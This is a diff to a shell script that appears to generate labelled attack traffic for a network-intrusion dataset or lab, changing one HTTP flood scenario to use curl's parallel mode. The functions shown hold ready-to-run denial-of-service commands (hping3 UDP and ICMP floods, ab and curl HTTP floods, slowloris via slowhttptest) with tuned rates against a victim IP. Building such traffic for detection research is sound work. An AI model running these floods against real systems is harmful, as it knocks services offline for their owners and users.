@@ -348,8 +348,11 @@ scenario_dos_udp_flood_snmp() { timeout 60 hping3 --udp -p 161 -i u150 -d 40 -c 
 scenario_dos_icmp_flood_big() { timeout 60 hping3 --icmp -i u300 -d 1400 -c 6000 "$VIC_IP"; }
 scenario_dos_http_flood_c10() { timeout 60 ab -n 8000 -c 10 "http://$VIC_IP/page3.html"; }
 scenario_dos_http_flood_c200() { timeout 60 ab -n 10000 -c 200 "http://$VIC_IP/page1.html"; }
+# curl's own parallel mode (one process, 50 transfers at once, a new connection per request): the earlier version,
+# 16 curl processes started by xargs, reached only 24 requests/s on the shared 2-core host, slower than the benign
+# parallel browsing scenario (18/s) -- not a flood, whatever its label said (issue 4 label check).
 scenario_dos_http_flood_curl() {
-  seq 1 1500 | timeout 40 xargs -P 16 -I{} curl -s -o /dev/null "http://$VIC_IP/index.html?flood={}"
+  timeout 40 curl -s -Z --parallel-max 50 -H 'Connection: close' "http://$VIC_IP/index.html?flood=[1-4000]" >/dev/null
 }
 scenario_slow_dos_slowloris_fast() { timeout 45 slowhttptest -H -c 200 -r 50 -i 2 -l 22 -u "http://$VIC_IP/page2.html" -p 3; }
 scenario_slow_dos_slowread() {
